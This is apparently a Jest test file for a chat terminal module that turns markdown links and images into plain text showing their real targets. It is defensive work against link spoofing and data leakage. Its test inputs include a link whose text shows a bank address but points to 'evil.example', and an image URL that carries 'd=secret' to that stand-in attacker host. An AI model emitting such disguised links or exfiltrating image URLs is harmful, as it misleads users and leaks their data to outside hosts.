import { expect, it } from '@jest/globals';
import fc from 'fast-check';
import { LinkStream, showTargets } from '../../../src/chat/terminal/link-targets.js';

it.each([
  ['see [the page](https://app.notion.com/p/1).', 'see the page (https://app.notion.com/p/1).'],
  ['[https://bank.example](https://evil.example)', 'https://bank.example (https://evil.example)'],
  ['[https://a.example](https://a.example)', 'https://a.example'],
  ['[a](<https://a.example> "a title")', 'a (https://a.example)'],
  [String.raw`[a \[b\] c](https://a.example)`, String.raw`a \[b\] c (https://a.example)`],
  ['[a](https://a.example/(x))', 'a (https://a.example/(x))'],
  ['![chart](https://evil.example/x.png?d=secret)', '[image: chart, evil.example]'],
  ['![](data:image/png;base64,AAAA)', '[image: no description, embedded]'],
  ['a [ b ] c (d) ! [x', 'a [ b ] c (d) ! [x'],
])('%s', (markdown, expected) => {
  expect(showTargets(markdown)).toBe(expected);
});

it('shows a link whole in whose target another seems to begin', () => {
  const links = new LinkStream();
  expect(['[b](', '![', ')'].map((piece) => links.push(piece)).join('') + links.end()).toBe('b (![)');
});

it('shows the same of a text that comes in pieces', () => {
  const part = fc.constantFrom(
    'a ',
    '[b]',
    '(https://c.example)',
    '![',
    '\\[',
    ']',
    '(',
    ')',
    '!',
    '\n',
    '[d](http://e.example)',
  );
  fc.assert(
    fc.property(fc.array(part, { maxLength: 20 }), fc.array(fc.nat({ max: 6 })), (parts, cuts) => {
      const whole = parts.join('');
      const links = new LinkStream();
      let shown = '';
      let at = 0;
      for (const cut of [...cuts, whole.length]) {
        shown += links.push(whole.slice(at, at + cut));
        at += cut;
      }
      expect(shown + links.end()).toBe(showTargets(whole));
    }),
  );
});

it('holds back no more than a link can have', () => {
  const links = new LinkStream();
  let shown = links.push('[');
  for (let piece = 0; piece < 100; piece += 1) {
    shown += links.push('x'.repeat(100));
  }
  expect(shown.length).toBeGreaterThan(6000);
});

it('takes time in proportion to the text', () => {
  const times = [20_000, 80_000].map((length) => {
    const texts = ['[', '![](', '[a](', '[[a]('].map((piece) => piece.repeat(length / piece.length));
    texts.forEach((text) => showTargets(text));
    const before = process.cpuUsage();
    texts.forEach((text) => showTargets(text));
    const { user, system } = process.cpuUsage(before);
    return user + system;
  });
  const [small = 0, large = 0] = times;
  // Four times the text; a square would be sixteen.
  expect(large / small).toBeLessThan(10);
});
